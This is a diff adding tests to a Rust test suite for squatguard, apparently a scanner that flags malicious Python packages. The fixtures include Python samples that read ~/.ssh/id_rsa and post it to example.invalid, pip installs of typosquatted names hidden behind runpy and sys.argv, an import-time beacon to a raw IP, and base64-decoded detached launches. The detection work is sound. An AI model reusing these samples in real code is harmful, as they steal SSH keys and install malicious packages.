@@ -1258,6 +1258,8 @@ fn each_evasion_of_issue_18_alone_exits_1() {
         ("a .dat file opened through a variable and a with-block", vec![("data/__init__.py", s("import os\n_p = os.path.join(os.path.dirname(__file__), \"blob.dat\")\nwith open(_p) as _f:\n    exec(_f.read())\n")), ("data/blob.dat", s(&launch))], ("import-time-code", "data/blob.dat", "subprocess.run(", "error")),
         ("a .dat file opened into a variable", vec![("data/__init__.py", s("_f = open(\"blob.dat\")\nexec(compile(_f.read(), \"x\", \"exec\"))\n")), ("data/blob.dat", s(&launch))], ("import-time-code", "data/blob.dat", "subprocess.run(", "error")),
         ("setup.py runs pip in its own process", vec![("setup.py", s("import pip\nfrom setuptools import setup\npip.main([\"install\", \"reqeusts\"])\nsetup(name=\"app\")\n"))], ("typosquat", "setup.py", "pip.main", "error")),
+        ("runpy.run_module(\"pip\") on a sys.argv the file sets", vec![("setup.py", s("import runpy, sys\nfrom setuptools import setup\nsys.argv = [\"pip\", \"install\", \"reqeusts\"]\nrunpy.run_module(\"pip\", run_name=\"__main__\")\nsetup(name=\"app\")\n"))], ("typosquat", "setup.py", "sys.argv = ", "error")),
+        ("runpy.run_module(\"pip\") after sys.argv[1:] is set", vec![("setup.py", s("import sys\nimport runpy as _r\nfrom setuptools import setup\nsys.argv[1:] = [\"install\", \"-q\", \"colourama\"]\n_r.run_module(\"pip\", run_name=\"__main__\", alter_sys=True)\nsetup(name=\"app\")\n"))], ("typosquat", "setup.py", "sys.argv[1:]", "error")),
         ("pip's main looked up by getattr", vec![("setup.py", s("import pip\nfrom setuptools import setup\ngetattr(pip, \"main\")([\"install\", \"reqeusts\"])\nsetup(name=\"app\")\n"))], ("typosquat", "setup.py", "getattr(pip", "error")),
         ("os.system looked up by getattr", vec![("shell/__init__.py", s(&format!("import os\ngetattr(os, \"system\")(\"{piped}\")\n")))], ("import-time-code", "shell/__init__.py", "getattr(os", "error")),
         ("pip's own options before install", vec![("setup.py", s("from setuptools import setup\nfrom pip import main as _m\n_pm = _m\n_pm([\"--isolated\", \"-q\", \"install\", \"reqeusts\"])\nsetup(name=\"app\")\n"))], ("typosquat", "setup.py", "_pm([", "error")),
@@ -1547,4 +1549,212 @@ fn a_rebound_name_never_stands_for_the_file_that_runs() {
         });
         assert!(flagged, "{what}: {all:?}");
     }
+}
+
+/// `runpy.run_module("pip")` reads `sys.argv` as it is when pip runs: a list the file sets and
+/// then changes (appends to, sets again), or sets from an expression, is not read as pip's
+/// arguments, and the launch is still named (a warning at install time), whatever a harmless
+/// list beside it says.
+#[test]
+fn pip_run_as_a_module_reads_only_an_argv_set_once() {
+    let cases: [(&str, &str); 3] = [
+        (
+            "appended to",
+            "import runpy, sys\nfrom setuptools import setup\nsys.argv = [\"pip\", \"install\", \"requests\"]\nsys.argv.append(\"reqeusts\")\nrunpy.run_module(\"pip\", run_name=\"__main__\")\nsetup(name=\"x\")\n",
+        ),
+        (
+            "set twice",
+            "import runpy, sys\nfrom setuptools import setup\nsys.argv = [\"pip\", \"install\", \"requests\"]\nsys.argv = [\"pip\", \"install\", \"x\" + \"y\"]\nrunpy.run_module(\"pip\", run_name=\"__main__\")\nsetup(name=\"x\")\n",
+        ),
+        (
+            "set from an expression",
+            "import runpy, sys\nfrom setuptools import setup\nsys.argv = \"pip install requests\".split()\nrunpy.run_module(mod_name=\"pip\")\nsetup(name=\"x\")\n",
+        ),
+    ];
+    for (what, setup_py) in cases {
+        let (_, all) = scan_files(&[("setup.py", setup_py)]);
+        assert!(
+            all.iter().any(|f| f["rule"] == "install-time-code"
+                && f["file"] == "setup.py"
+                && f["message"].as_str().unwrap().contains("runpy.run_module")),
+            "{what}: {all:?}"
+        );
+    }
+}
+
+/// `scan --format json` of a repository holding `files`: the exit status and the findings.
+fn scan_files(files: &[(&str, &str)]) -> (Option<i32>, Vec<Value>) {
+    let dir = tempfile::tempdir().unwrap();
+    for (rel, text) in files {
+        write(dir.path(), rel, text);
+    }
+    let out = squatguard(dir.path(), &["scan", "--format", "json"]);
+    (out.status.code(), findings(&out))
+}
+
+/// [`scan_files`] of an installed distribution's files (a `RECORD` lists them all), with
+/// `--trusted`.
+fn scan_installed(files: &[(&str, &str)]) -> (Option<i32>, Vec<Value>) {
+    let dir = tempfile::tempdir().unwrap();
+    let mut record = String::new();
+    for (rel, text) in files {
+        write(dir.path(), rel, text);
+        record.push_str(&format!("{rel},,\n"));
+    }
+    write(dir.path(), "dist-1.0.dist-info/RECORD", &record);
+    let out = squatguard(dir.path(), &["scan", "--trusted", "--format", "json"]);
+    (out.status.code(), findings(&out))
+}
+
+#[test]
+fn severity_follows_capability_and_reach() {
+    // in a repository scanned as it comes (untrusted), a file is one place: a threat and a
+    // capability anywhere in it meet, whatever calls what (a hostile author can hide which
+    // function runs which behind a dict of callbacks, a lambda or `getattr`)
+    let split = "import os\nimport requests\n\n\ndef read_key():\n    return open(os.path.expanduser(\"~/.ssh/id_rsa\")).read()\n\n\ndef send(data):\n    requests.post(\"https://example.invalid/u\", data=data)\n";
+    let hooks = "\n\nHOOKS = {\"k\": read_key, \"s\": send}\nHOOKS[\"s\"](HOOKS[\"k\"]())\n";
+    for text in [split.to_owned(), format!("{split}{hooks}")] {
+        let (code, all) = scan_files(&[("tools/sync.py", &text)]);
+        assert_fires(&all, "credential-access", "tools/sync.py", 6, "error");
+        assert_eq!(code, Some(1));
+    }
+
+    // the modules of installed distributions, with `--trusted` (`RECORD` lists them): signals
+    // meet where they run together
+    // a stealer that reads an SSH key and posts it in one function: an error, called or not
+    let one = "import os\nimport requests\n\n\ndef steal():\n    key = open(os.path.expanduser(\"~/.ssh/id_rsa\")).read()\n    requests.post(\"https://example.invalid/u\", data=key)\n";
+    let (code, all) = scan_installed(&[("tools/sync.py", one)]);
+    assert_fires(&all, "credential-access", "tools/sync.py", 6, "error");
+    assert_eq!(code, Some(1));
+
+    // the same split across two functions that nothing calls unasked: a warning
+    let (code, all) = scan_installed(&[("tools/sync.py", split)]);
+    assert_fires(&all, "credential-access", "tools/sync.py", 6, "warning");
+    assert_eq!(code, Some(0));
+
+    // ... and called at import: both run unasked, an error
+    let called = format!("{split}\n\nsend(read_key())\n");
+    let (code, all) = scan_installed(&[("tools/sync.py", &called)]);
+    assert_fires(&all, "credential-access", "tools/sync.py", 6, "error");
+    assert_eq!(code, Some(1));
+
+    // ... and called from a script the instructions run, in another file (a lure's `main.py`
+    // calling its `utils`), by module name, through a function imported by name, or through a
+    // module the script imports: they run unasked, an error
+    let readme = "# Coding test\n\nRun `python main.py` to start.\n";
+    let mains = [
+        "import utils\n\nutils.send(utils.read_key())\n",
+        "from utils import read_key, send\n\nsend(read_key())\n",
+        "import helpers.net as net\n\nnet.go()\n",
+    ];
+    for main in mains {
+        let (code, all) = scan_installed(&[
+            ("README.md", readme),
+            ("main.py", main),
+            ("utils.py", split),
+            ("helpers/__init__.py", ""),
+            (
+                "helpers/net.py",
+                "import utils\n\n\ndef go():\n    utils.send(utils.read_key())\n",
+            ),
+        ]);
+        assert_fires(&all, "credential-access", "utils.py", 6, "error");
+        assert_eq!(code, Some(1), "{main}");
+    }
+    // a script that calls other functions of it: still a warning
+    let (code, all) = scan_installed(&[
+        ("README.md", readme),
+        ("main.py", "import utils\n\nprint(utils.__name__)\n"),
+        ("utils.py", split),
+    ]);
+    assert_fires(&all, "credential-access", "utils.py", 6, "warning");
+    assert_eq!(code, Some(0));
+
+    // a class made at import whose `__init__` reads the key and whose method, called through
+    // `self`, posts it: both run unasked, an error
+    let class = "import os\nimport requests\n\n\nclass Sync:\n    def __init__(self):\n        self.key = open(os.path.expanduser(\"~/.ssh/id_rsa\")).read()\n        self.push()\n\n    def push(self):\n        requests.post(\"https://example.invalid/u\", data=self.key)\n\n\nSync()\n";
+    let (code, all) = scan_installed(&[("tools/__init__.py", class)]);
+    assert_fires(&all, "credential-access", "tools/__init__.py", 7, "error");
+    assert_eq!(code, Some(1));
+    // the same class that nothing makes on import: a warning
+    let unmade = class.trim_end_matches("Sync()\n");
+    let (code, all) = scan_installed(&[("tools/__init__.py", unmade)]);
+    assert_fires(&all, "credential-access", "tools/__init__.py", 7, "warning");
+    assert_eq!(code, Some(0));
+
+    // an SSH client that loads known_hosts in one method and connects in another (paramiko)
+    let client = "import os\nimport socket\n\n\nclass SSHClient:\n    def load_system_host_keys(self):\n        self.known = os.path.expanduser(\"~/.ssh/known_hosts\")\n\n    def connect(self, host, port=22):\n        self.sock = socket.create_connection((host, port))\n";
+    let (code, all) = scan_installed(&[("sshlib/client.py", client)]);
+    assert_fires(&all, "credential-access", "sshlib/client.py", 7, "warning");
+    assert_eq!(code, Some(0));
+
+    // an rc loader that can fetch a URL at import (matplotlib), beside a cache folder in the
+    // temporary directory and a decoding that nothing calls on import: a bare capability
+    let rc = "import base64\nimport tempfile\nimport urllib.request\n\n\ndef _cachedir():\n    return tempfile.mkdtemp(prefix=\"lib-\")\n\n\ndef _open(fname):\n    _cachedir()\n    if \"://\" in fname:\n        return urllib.request.urlopen(fname).read()\n    return open(fname).read()\n\n\ndef _unpack(s):\n    return base64.b64decode(s)\n\n\nrc = _open(\"librc\")\n";
+    let (code, all) = scan_installed(&[("plotlib/__init__.py", rc)]);
+    assert_fires(
+        &all,
+        "import-time-code",
+        "plotlib/__init__.py",
+        21,
+        "warning",
+    );
+    assert_eq!(code, Some(0));
+
+    // an import-time post to a raw IP: an error
+    let beacon = "import urllib.request\n\n\ndef _ping():\n    urllib.request.urlopen(\"http://45.33.32.156/c\", data=b\"x\")\n\n\n_ping()\n";
+    let (code, all) = scan_installed(&[("plotlib/__init__.py", beacon)]);
+    assert_fires(&all, "import-time-code", "plotlib/__init__.py", 8, "error");
+    assert_fires(&all, "exfil-endpoint", "plotlib/__init__.py", 5, "error");
+    assert_eq!(code, Some(1));
+
+    // a client of a paste site in a method nothing calls unasked (IPython's `%pastebin`): a
+    // warning; the same upload at import, an error
+    let paste = "from urllib.request import urlopen\n\n\nclass Magics:\n    def pastebin(self, code):\n        return urlopen(\"https://dpaste.com/api/v2/\", code.encode())\n";
+    let (code, all) = scan_installed(&[("shell/magics.py", paste)]);
+    assert_fires(&all, "exfil-endpoint", "shell/magics.py", 6, "warning");
+    assert_eq!(code, Some(0));
+    let at_import =
+        "from urllib.request import urlopen\n\nurlopen(\"https://dpaste.com/api/v2/\", b\"x\")\n";
+    let (code, all) = scan_installed(&[("shell/magics.py", at_import)]);
+    assert_fires(&all, "exfil-endpoint", "shell/magics.py", 3, "error");
+    assert_eq!(code, Some(1));
+
+    // a detached launch beside a decoding in another, uncalled function: a warning; in the
+    // same function, an error
+    let apart = "import base64\nimport subprocess\n\n\ndef start(cmd):\n    subprocess.Popen(cmd, start_new_session=True)\n\n\ndef unpack(s):\n    return base64.b64decode(s)\n";
+    let (code, all) = scan_installed(&[("svc/run.py", apart)]);
+    assert_fires(&all, "hidden-process", "svc/run.py", 6, "warning");
+    assert_eq!(code, Some(0));
+    let together = "import base64\nimport subprocess\n\n\ndef start(s):\n    subprocess.Popen(base64.b64decode(s).split(), start_new_session=True)\n";
+    let (code, all) = scan_installed(&[("svc/run.py", together)]);
+    assert_fires(&all, "hidden-process", "svc/run.py", 6, "error");
+    assert_eq!(code, Some(1));
+}
+
+/// A coding cookie the scan does not decode: a warning only for a module of the user's own
+/// site-packages that its `RECORD` lists and that nothing running unasked imports; an error on
+/// a package's import path, and always in a repository under inspection.
+#[test]
+fn a_foreign_cookie_is_an_error_where_the_module_runs_unasked() {
+    let site = tempfile::tempdir().unwrap();
+    let site = site.path();
+    let big5 = "# -*- coding: big5 -*-\nx = 1\n";
+    write(site, "lib/__init__.py", "from . import enc\n");
+    write(site, "lib/enc.py", big5);
+    write(site, "lib/tests/__init__.py", "");
+    write(site, "lib/tests/test_enc.py", big5);
+    write(
+        site,
+        "lib-1.0.dist-info/RECORD",
+        "lib/__init__.py,,\nlib/enc.py,,\nlib/tests/__init__.py,,\nlib/tests/test_enc.py,,\n",
+    );
+    let out = squatguard(site, &["scan", "--trusted", "--format", "json"]);
+    let all = findings(&out);
+    assert_fires(&all, "obfuscation", "lib/tests/test_enc.py", 1, "warning");
+    assert_fires(&all, "obfuscation", "lib/enc.py", 1, "error");
+    assert_eq!(out.status.code(), Some(1));
+    // under inspection, the repository's RECORD relaxes nothing
+    let all = scan_failing(site);
+    assert_fires(&all, "obfuscation", "lib/tests/test_enc.py", 1, "error");
 }
